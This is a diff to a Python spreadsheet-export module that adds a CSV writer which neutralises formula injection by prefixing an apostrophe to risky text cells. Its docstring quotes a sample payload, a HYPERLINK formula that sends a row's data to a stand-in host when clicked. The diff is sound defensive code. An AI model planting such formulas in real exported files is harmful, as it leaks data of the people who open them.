@@ -15,7 +15,11 @@ there `setup_print` comes first, and its cells take their font from the named st
     widths, landscape = fit_widths([column_width(header, values) for ...], wrap={0, 4})
     setup_print(ws, landscape=landscape, header_row=3, widths=widths)
     ws.append([styled(ws, value, "正文") for value in row]) ...
+
+Every CSV the app writes is made by `csv_bytes`, which does for CSV what `keep_as_text` does for XLSX.
 """
+import csv
+import io
 import math
 import unicodedata
 from collections.abc import Iterable, Sequence
@@ -53,6 +57,24 @@ def keep_as_text(cell) -> None:
     makes a formula; + - @ need no escaping there, so no apostrophe shows in "+86..." or "-".)"""
     if cell.data_type == "f":
         cell.data_type = "s"
+
+
+
+# What makes Excel, WPS and LibreOffice read a CSV cell as a formula (a tab or CR before one is skipped, too).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_bytes(rows: Iterable[Sequence]) -> bytes:
+    """rows as UTF-8 CSV, with the BOM that lets Excel on Windows open the Chinese ungarbled: the one writer of the
+    app's CSV files. In a CSV any cell beginning with = + - or @ is run as a formula (=HYPERLINK("http://x/?"&A2)
+    in a unit's name would send the row elsewhere when clicked), so a text cell beginning so gets an apostrophe,
+    which the spreadsheet hides and which keeps it text; numbers written as numbers stay as they are."""
+    out = io.StringIO()
+    writer = csv.writer(out)
+    for row in rows:
+        writer.writerow([f"'{cell}" if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) else cell
+                         for cell in row])
+    return ("\ufeff" + out.getvalue()).encode("utf-8")
 
 
 def cjk_font(*, size: float = BODY_SIZE, bold: bool = False) -> Font:
